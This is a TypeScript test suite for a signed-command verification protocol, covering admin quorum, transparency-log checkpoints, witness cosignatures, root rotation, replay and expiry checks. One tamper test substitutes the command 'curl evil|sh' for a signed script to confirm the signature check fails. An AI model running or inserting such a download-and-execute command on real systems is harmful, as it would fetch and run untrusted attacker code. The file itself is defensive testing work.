import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import fc from 'fast-check'
import {
  verifyCommand, initialTrustState, encodeTrustState, decodeTrustState, merkleTargets, targetProof, toBase64, dsse,
  parseDelivery, formatDelivery, ProtocolError, nodeCrypto, type CryptoProvider, type TrustState, type Delivery, type VerifyResult,
} from '../../dist/node.js'
import { key, NOW, TestOrg } from '../fixtures/org.js'

const device = { id: 'dev-1' }

async function setup(opts: ConstructorParameters<typeof TestOrg>[0] = {}): Promise<{ org: TestOrg; state: TrustState }> {
  const org = await new TestOrg(opts).init()
  return { org, state: initialTrustState(org.fingerprint, org.rootEnvelopes, NOW) }
}

function rejected(r: VerifyResult, code: string): void {
  assert.equal(r.ok, false, 'expected a rejection')
  if (!r.ok) assert.equal(r.code, code, r.message)
}

describe('verifyCommand — accepted', () => {
  it('runs a command signed by 2 of 3 admins, logged and cosigned, and remembers it', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand({ id: 'c1' }))
    const r = verifyCommand(state, await org.delivery(i), device, NOW)
    assert.ok(r.ok, !r.ok ? r.message : '')
    if (!r.ok) return
    assert.equal(r.command.id, 'c1')
    assert.equal(r.approvedBy.length, 2)
    assert.equal(r.nextState.checkpoint?.size, 1)
    assert.ok('c1' in r.nextState.executed)
    assert.equal(Object.keys(state.executed).length, 0, 'the input state is not mutated')
  })
  it('accepts a second command under a larger checkpoint that extends the first', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    const r1 = verifyCommand(state, await org.delivery(i), device, NOW)
    assert.ok(r1.ok)
    for (let k = 0; k < 5; k++) org.append(`other entry ${k}`)
    const j = org.append(await org.signCommand())
    const r2 = verifyCommand(r1.nextState, await org.delivery(j, r1.nextState), device, NOW)
    assert.ok(r2.ok, !r2.ok ? r2.message : '')
  })
  it('accepts a device in a Merkle target commitment with its membership proof', async () => {
    const { org, state } = await setup()
    const ids = Array.from({ length: 50 }, (_, k) => `dev-${k}`)
    const t = merkleTargets(ids)
    const targets = t.kind === 'merkle' ? { kind: 'merkle', root: toBase64(t.root), count: t.count } : t
    const i = org.append(await org.signCommand({ targets }))
    const r = verifyCommand(state, await org.delivery(i, undefined, { targetProof: targetProof(ids, 'dev-1')! }), device, NOW)
    assert.ok(r.ok, !r.ok ? r.message : '')
  })
  it('follows a root rotation delivered with the command', async () => {
    const { org, state } = await setup()
    const fresh = [key('rot/0'), key('rot/1'), key('rot/2')]
    const v2 = await org.signRoot(
      { ...org.rootObject, version: 2, admins: fresh.map((k) => ({ id: k.id, name: k.name, publicKey: toBase64(k.pub) })) },
      [...org.admins.slice(0, 2), ...fresh.slice(0, 2)],
    )
    const i = org.append(await org.signCommand({}, fresh.slice(1, 3)))
    const r = verifyCommand(state, await org.delivery(i, undefined, { rootUpdates: [v2] }), device, NOW)
    assert.ok(r.ok, !r.ok ? r.message : '')
    if (r.ok) assert.equal(r.nextState.roots.length, 2)
  })
})

describe('verifyCommand — crypto provider', () => {
  // verifyCommand keeps per-root verifiers between calls; each must check
  // through the provider of the call at hand.
  describe('when the same root is used with a second provider', () => {
    it('checks every signature through that provider, and rejects when it refuses them', async () => {
      const { org, state } = await setup({ witnesses: 2, quorum: 2 })
      const i = org.append(await org.signCommand())
      const delivery = await org.delivery(i)
      assert.ok(verifyCommand(state, delivery, device, NOW).ok)
      const seen: Uint8Array[] = []
      const counting: CryptoProvider = {
        ...nodeCrypto,
        name: 'counting',
        verify: (pub, msg, sig) => {
          seen.push(pub)
          return nodeCrypto.verify(pub, msg, sig)
        },
      }
      assert.ok(verifyCommand(state, delivery, device, NOW, counting).ok)
      assert.equal(seen.length, 5, '2 admin signatures, the log signature and 2 cosignatures')
      const refusing: CryptoProvider = { ...nodeCrypto, name: 'refusing', verify: () => false }
      rejected(verifyCommand(state, delivery, device, NOW, refusing), 'PROTO_SIG_THRESHOLD')
      assert.ok(verifyCommand(state, delivery, device, NOW).ok, 'and the first provider still works')
    })
  })
})

describe('verifyCommand — G1 quorum', () => {
  it('rejects one signature short of the threshold (PROTO_SIG_THRESHOLD)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand({}, org.admins.slice(0, 1)))
    rejected(verifyCommand(state, await org.delivery(i), device, NOW), 'PROTO_SIG_THRESHOLD')
  })
  it('counts the same key signing twice once (PROTO_SIG_THRESHOLD)', async () => {
    const { org, state } = await setup()
    const a = org.admins[0]!
    const i = org.append(await org.signCommand({}, [a, a]))
    rejected(verifyCommand(state, await org.delivery(i), device, NOW), 'PROTO_SIG_THRESHOLD')
  })
  it('ignores a signature by a key outside the root (PROTO_SIG_THRESHOLD)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand({}, [org.admins[0]!, key('mallory')]))
    rejected(verifyCommand(state, await org.delivery(i), device, NOW), 'PROTO_SIG_THRESHOLD')
  })
  it('rejects a forged signature (PROTO_SIG_THRESHOLD)', async () => {
    const { org, state } = await setup()
    const env = dsse.parseEnvelope(await org.signCommand())
    const sig = new Uint8Array(env.signatures[1]!.sig)
    sig[10]! ^= 1
    const forged = dsse.formatEnvelope({ ...env, signatures: [env.signatures[0]!, { keyid: env.signatures[1]!.keyid, sig }] })
    const i = org.append(forged)
    rejected(verifyCommand(state, await org.delivery(i), device, NOW), 'PROTO_SIG_THRESHOLD')
  })
  it('rejects a payload changed after signing (PROTO_SIG_THRESHOLD)', async () => {
    const { org, state } = await setup()
    const env = dsse.parseEnvelope(await org.signCommand({ script: 'echo hello' }))
    const text = new TextDecoder().decode(env.payload).replace('echo hello', 'curl evil|sh')
    const i = org.append(dsse.formatEnvelope({ ...env, payload: new TextEncoder().encode(text) }))
    rejected(verifyCommand(state, await org.delivery(i), device, NOW), 'PROTO_SIG_THRESHOLD')
  })
  it('rejects a root envelope delivered as a command (PROTO_PAYLOAD_TYPE)', async () => {
    const { org, state } = await setup()
    const i = org.append(org.rootEnvelopes[0]!)
    rejected(verifyCommand(state, await org.delivery(i), device, NOW), 'PROTO_PAYLOAD_TYPE')
  })
  it('rejects a command for another organisation (PROTO_ORG_MISMATCH)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand({ org: 'other' }))
    rejected(verifyCommand(state, await org.delivery(i), device, NOW), 'PROTO_ORG_MISMATCH')
  })
  it('rejects a command listing other devices (PROTO_NOT_TARGETED)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand({ targets: { kind: 'devices', ids: ['dev-2', 'dev-3'] } }))
    rejected(verifyCommand(state, await org.delivery(i), device, NOW), 'PROTO_NOT_TARGETED')
  })
  it('rejects a Merkle-targeted command without a proof, or with another device\'s proof (PROTO_NOT_TARGETED)', async () => {
    const { org, state } = await setup()
    const ids = ['dev-0', 'dev-2', 'dev-3']
    const t = merkleTargets(ids)
    const targets = t.kind === 'merkle' ? { kind: 'merkle', root: toBase64(t.root), count: t.count } : t
    const i = org.append(await org.signCommand({ targets }))
    rejected(verifyCommand(state, await org.delivery(i), device, NOW), 'PROTO_NOT_TARGETED')
    rejected(verifyCommand(state, await org.delivery(i, undefined, { targetProof: targetProof(ids, 'dev-2')! }), device, NOW), 'PROTO_NOT_TARGETED')
  })
  it('rejects expired and not-yet-valid commands (PROTO_EXPIRED)', async () => {
    const { org, state } = await setup()
    const a = org.append(await org.signCommand({ notBefore: NOW - 7200, notAfter: NOW - 1 }))
    rejected(verifyCommand(state, await org.delivery(a), device, NOW), 'PROTO_EXPIRED')
    const b = org.append(await org.signCommand({ notBefore: NOW + 3600, notAfter: NOW + 7200 }))
    rejected(verifyCommand(state, await org.delivery(b), device, NOW), 'PROTO_EXPIRED')
  })
  it('allows a notBefore within the clock skew', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand({ notBefore: NOW + 120, notAfter: NOW + 7200 }))
    assert.ok(verifyCommand(state, await org.delivery(i), device, NOW).ok)
  })
  it('rejects a validity window longer than the root allows (PROTO_VALIDITY_TOO_LONG)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand({ notBefore: NOW - 60, notAfter: NOW + 365 * 86400 }))
    rejected(verifyCommand(state, await org.delivery(i), device, NOW), 'PROTO_VALIDITY_TOO_LONG')
  })
  it('rejects a replay of a command that already ran (PROTO_REPLAY), also after a save and load', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    const d = await org.delivery(i)
    const r = verifyCommand(state, d, device, NOW)
    assert.ok(r.ok)
    rejected(verifyCommand(r.nextState, d, device, NOW), 'PROTO_REPLAY')
    const reloaded = decodeTrustState(JSON.parse(JSON.stringify(encodeTrustState(r.nextState))))
    rejected(verifyCommand(reloaded, d, device, NOW + 10), 'PROTO_REPLAY')
  })
})

describe('verifyCommand — G2 history', () => {
  it('rejects a command that is not in the log (PROTO_NOT_IN_LOG)', async () => {
    const { org, state } = await setup()
    org.append('something else')
    const env = await org.signCommand()
    const d = await org.delivery(0, undefined, { envelope: env })
    rejected(verifyCommand(state, d, device, NOW), 'PROTO_NOT_IN_LOG')
  })
  it('rejects an inclusion proof for another index or a leaf index past the tree (PROTO_NOT_IN_LOG)', async () => {
    const { org, state } = await setup()
    org.append('a')
    const i = org.append(await org.signCommand())
    org.append('c')
    const d = await org.delivery(i)
    rejected(verifyCommand(state, { ...d, leafIndex: 0 }, device, NOW), 'PROTO_NOT_IN_LOG')
    rejected(verifyCommand(state, { ...d, leafIndex: 3 }, device, NOW), 'PROTO_NOT_IN_LOG')
  })
  it('rejects a checkpoint signed by another log key (PROTO_LOG_SIG)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    const d = await org.delivery(i, undefined, { checkpoint: await org.checkpointNote(undefined, undefined, key('rogue', org.origin)) })
    rejected(verifyCommand(state, d, device, NOW), 'PROTO_LOG_SIG')
  })
  it('rejects a checkpoint of another log origin (PROTO_LOG_ORIGIN)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    const d = await org.delivery(i, undefined, { checkpoint: await org.checkpointNote(undefined, undefined, undefined, 'palisade.test/other') })
    rejected(verifyCommand(state, d, device, NOW), 'PROTO_LOG_ORIGIN')
  })
  it('rejects a checkpoint with too few witness cosignatures (PROTO_WITNESS_QUORUM)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    const d = await org.delivery(i, undefined, { checkpoint: await org.checkpointNote(undefined, org.witnesses.slice(0, 1)) })
    rejected(verifyCommand(state, d, device, NOW), 'PROTO_WITNESS_QUORUM')
  })
  it('does not count a cosignature from an unknown witness (PROTO_WITNESS_QUORUM)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    const d = await org.delivery(i, undefined, { checkpoint: await org.checkpointNote(undefined, [org.witnesses[0]!, key('rogue-witness', 'rogue.example')]) })
    rejected(verifyCommand(state, d, device, NOW), 'PROTO_WITNESS_QUORUM')
  })
  it('rejects a forked log that does not extend the checkpoint the device saw (PROTO_LOG_INCONSISTENT)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    org.append('honest entry')
    const r1 = verifyCommand(state, await org.delivery(i), device, NOW)
    assert.ok(r1.ok)
    // The server shows this device a different history of the same size plus one.
    const fork = await new TestOrg().init()
    fork.leaves.push(org.leaves[0]!, new TextEncoder().encode('rewritten entry'))
    const j = fork.append(await org.signCommand())
    const d = await fork.delivery(j, r1.nextState)
    const r2 = verifyCommand(r1.nextState, d, device, NOW)
    rejected(r2, 'PROTO_LOG_INCONSISTENT')
    if (!r2.ok) assert.ok(typeof r2.details?.seen === 'string' && typeof r2.details?.offered === 'string', 'both checkpoints kept as evidence')
  })
  it('rejects a checkpoint of the same size with another root hash (PROTO_LOG_INCONSISTENT)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    const r1 = verifyCommand(state, await org.delivery(i), device, NOW)
    assert.ok(r1.ok)
    const fork = await new TestOrg().init()
    const j = fork.append(await org.signCommand())
    rejected(verifyCommand(r1.nextState, await fork.delivery(j, r1.nextState), device, NOW), 'PROTO_LOG_INCONSISTENT')
  })
  it('rejects a log rolled back to a smaller size (PROTO_LOG_ROLLBACK)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    const j = org.append(await org.signCommand())
    const r1 = verifyCommand(state, await org.delivery(j), device, NOW)
    assert.ok(r1.ok)
    const small = await new TestOrg().init()
    small.leaves.push(org.leaves[i]!)
    rejected(verifyCommand(r1.nextState, await small.delivery(0), device, NOW), 'PROTO_LOG_ROLLBACK')
  })
})

describe('verifyCommand — G3 roots', () => {
  it('rejects every command while the root is frozen (PROTO_FROZEN)', async () => {
    const { org, state } = await setup()
    const v2 = await org.signRoot({ ...org.rootObject, version: 2, frozen: true }, org.admins.slice(0, 2))
    const i = org.append(await org.signCommand())
    rejected(verifyCommand(state, await org.delivery(i, undefined, { rootUpdates: [v2] }), device, NOW), 'PROTO_FROZEN')
  })
  it('rejects commands signed by keys a later root removed (PROTO_SIG_THRESHOLD)', async () => {
    const { org, state } = await setup()
    const fresh = [key('rot/0'), key('rot/1'), key('rot/2')]
    const v2 = await org.signRoot(
      { ...org.rootObject, version: 2, admins: fresh.map((k) => ({ id: k.id, name: k.name, publicKey: toBase64(k.pub) })) },
      [...org.admins.slice(0, 2), ...fresh.slice(0, 2)],
    )
    const i = org.append(await org.signCommand())
    rejected(verifyCommand(state, await org.delivery(i, undefined, { rootUpdates: [v2] }), device, NOW), 'PROTO_SIG_THRESHOLD')
  })
  it('rejects a root update that goes back (PROTO_ROOT_ROLLBACK)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    rejected(verifyCommand(state, await org.delivery(i, undefined, { rootUpdates: [org.rootEnvelopes[0]!] }), device, NOW), 'PROTO_ROOT_ROLLBACK')
  })
  describe('when the cosigned checkpoint names a root (the root line)', () => {
    async function rotated(): Promise<{ org: TestOrg; state: TrustState; v2: string; i: number }> {
      const { org, state } = await setup()
      const fresh = [key('rot/0'), key('rot/1'), key('rot/2')]
      // v2 removes admin0 (stolen); the log and its witnesses know v2.
      const v2 = await org.signRoot(
        { ...org.rootObject, version: 2, admins: [...org.admins.slice(1), ...fresh.slice(0, 1)].map((k) => ({ id: k.id, name: k.name, publicKey: toBase64(k.pub) })) },
        org.admins.slice(0, 3),
      )
      org.rootEnvelopes.push(v2)
      // admin0 (removed in v2) and admin1 sign: enough under v1, not under v2.
      const i = org.append(await org.signCommand({}, org.admins.slice(0, 2)))
      return { org, state, v2, i }
    }
    it('rejects a delivery that withholds the root update the log names (PROTO_ROOT_STALE)', async () => {
      const { org, state, i } = await rotated()
      const r = verifyCommand(state, await org.delivery(i), device, NOW)
      rejected(r, 'PROTO_ROOT_STALE')
      if (!r.ok) {
        assert.match(r.message, /names root v2; this device has v1/)
        assert.equal(r.details?.['logRoot'], 2)
        assert.equal(r.details?.['deviceRoot'], 1)
      }
    })
    it('accepts once the update is delivered, and then holds the command to v2 (ok, then PROTO_SIG_THRESHOLD)', async () => {
      const { org, state, v2 } = await rotated()
      const ok = org.append(await org.signCommand({}, org.admins.slice(1, 3)))
      const r = verifyCommand(state, await org.delivery(ok, undefined, { rootUpdates: [v2] }), device, NOW)
      assert.ok(r.ok, !r.ok ? r.message : '')
      const bad = org.append(await org.signCommand({}, org.admins.slice(0, 2)))
      rejected(verifyCommand(state, await org.delivery(bad, undefined, { rootUpdates: [v2] }), device, NOW), 'PROTO_SIG_THRESHOLD')
    })
    it('accepts a line naming an older root than the device has (the device is ahead)', async () => {
      const { org, state, v2 } = await rotated()
      const ok = org.append(await org.signCommand({}, org.admins.slice(1, 3)))
      const cp = await org.checkpointNote(undefined, undefined, undefined, undefined, [org.rootLine(org.rootEnvelopes[0]!)])
      const r = verifyCommand(state, await org.delivery(ok, undefined, { rootUpdates: [v2], checkpoint: cp }), device, NOW)
      assert.ok(r.ok, !r.ok ? r.message : '')
    })
    it('rejects a line naming the same version with another fingerprint (PROTO_ROOT_STALE)', async () => {
      const { org, state } = await setup()
      const i = org.append(await org.signCommand())
      const cp = await org.checkpointNote(undefined, undefined, undefined, undefined, [`palisade-root 1 ${'0'.repeat(64)}`])
      rejected(verifyCommand(state, await org.delivery(i, undefined, { checkpoint: cp }), device, NOW), 'PROTO_ROOT_STALE')
    })
    it('rejects a checkpoint without a root line, with two, or with a malformed one (PROTO_MALFORMED)', async () => {
      const { org, state } = await setup()
      const i = org.append(await org.signCommand())
      const line = org.rootLine()
      for (const extensions of [[], [line, line], ['palisade-root 01 ' + line.split(' ')[2]], ['other-extension 1']]) {
        const cp = await org.checkpointNote(undefined, undefined, undefined, undefined, extensions)
        rejected(verifyCommand(state, await org.delivery(i, undefined, { checkpoint: cp }), device, NOW), 'PROTO_MALFORMED')
      }
      const cp = await org.checkpointNote(undefined, undefined, undefined, undefined, ['other-extension 1', line])
      assert.ok(verifyCommand(state, await org.delivery(i, undefined, { checkpoint: cp }), device, NOW).ok, 'unknown extension lines are ignored')
    })
  })
  it('rejects any command once the root in force has expired (PROTO_ROOT_EXPIRED)', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand({ notBefore: NOW, notAfter: NOW + 86400 }))
    rejected(verifyCommand(state, await org.delivery(i), device, NOW + 400 * 86400), 'PROTO_ROOT_EXPIRED')
  })
})

describe('verifyCommand never throws', () => {
  it('returns a rejection with a code for thousands of mutated deliveries', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    const wire = JSON.stringify(formatDelivery(await org.delivery(i)))
    fc.assert(
      fc.property(fc.nat({ max: wire.length - 1 }), fc.integer({ min: 32, max: 126 }), (at, ch) => {
        const text = wire.slice(0, at) + String.fromCharCode(ch) + wire.slice(at + 1)
        let d: Delivery
        try {
          d = parseDelivery(JSON.parse(text))
        } catch (e) {
          if (!(e instanceof SyntaxError)) assert.ok(e instanceof ProtocolError)
          return
        }
        const r = verifyCommand(state, d, device, NOW)
        if (!r.ok) assert.match(r.code, /^PROTO_[A-Z_]+$/)
        else assert.equal(text, wire.slice(0, at) + wire[at] + wire.slice(at + 1)) // only a no-op mutation may pass
      }),
      { numRuns: 2000 },
    )
  })
})

describe('trust state on disk', () => {
  it('round-trips through JSON', async () => {
    const { org, state } = await setup()
    const i = org.append(await org.signCommand())
    const r = verifyCommand(state, await org.delivery(i), device, NOW)
    assert.ok(r.ok)
    const back = decodeTrustState(JSON.parse(JSON.stringify(encodeTrustState(r.nextState))))
    assert.deepEqual(encodeTrustState(back), encodeTrustState(r.nextState))
  })
  it('refuses a state whose root chain does not lead back to the pin (PROTO_ROOT_FINGERPRINT)', async () => {
    const { state } = await setup()
    const other = await new TestOrg({ org: 'other' }).init()
    const enc = encodeTrustState(state) as Record<string, unknown>
    assert.throws(() => decodeTrustState({ ...enc, roots: other.rootEnvelopes }), { code: 'PROTO_ROOT_FINGERPRINT' })
  })
})
